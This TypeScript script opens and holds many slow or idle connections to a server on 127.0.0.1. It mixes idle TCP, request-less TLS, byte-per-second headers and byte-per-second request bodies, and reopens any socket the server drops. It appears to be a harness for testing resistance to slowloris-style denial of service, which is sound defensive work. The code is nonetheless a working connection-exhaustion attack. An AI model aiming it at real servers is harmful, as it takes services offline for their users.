// Holds hostile sockets open against a server until killed, in equal shares: idle TCP (never a byte), TLS with no
// request (TLS servers only), headers a byte per second, a body a byte per second. A socket the server closes is
// opened again after 1 s, as an attacker holding connections would. Prints one JSON line when all are open.
import { connect as tcp } from 'node:net'
import { connect as tls } from 'node:tls'
import { parseArgs } from 'node:util'

const { values } = parseArgs({ options: { port: { type: 'string' }, count: { type: 'string', default: '1000' }, path: { type: 'string', default: '/' }, transport: { type: 'string', default: 'https' } } })
const port = Number(values.port)
const secure = values.transport === 'https'
type Kind = 'tcp' | 'tls' | 'slow-headers' | 'slow-body'
const KINDS: Kind[] = secure ? ['tcp', 'tls', 'slow-headers', 'slow-body'] : ['tcp', 'slow-headers', 'slow-body']

function open (kind: Kind): Promise<void> {
  return new Promise(resolve => {
    const socket = kind === 'tcp' || !secure ? tcp(port, '127.0.0.1', () => resolve()) : tls({ port, host: '127.0.0.1', rejectUnauthorized: false }, () => resolve())
    let timer: NodeJS.Timeout | undefined
    socket.on('error', () => resolve())
    socket.on('close', () => {
      clearInterval(timer)
      setTimeout(() => { open(kind).catch(() => {}) }, 1000)
    })
    const drip = (text: string) => {
      let i = 0
      timer = setInterval(() => socket.write(text[i++ % text.length] as string), 1000)
    }
    const connected = secure ? 'secureConnect' : 'connect'
    if (kind === 'slow-headers') socket.once(connected, () => drip(`POST ${values.path} HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa`))
    if (kind === 'slow-body') {
      socket.once(connected, () => {
        socket.write(`POST ${values.path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`)
        drip('{')
      })
    }
  })
}

const count = Number(values.count)
for (let i = 0; i < count; i += 50) await Promise.all(Array.from({ length: Math.min(50, count - i) }, (_, j) => open(KINDS[(i + j) % KINDS.length] as Kind)))
process.stdout.write(`${JSON.stringify({ url: `opened ${count}` })}\n`)
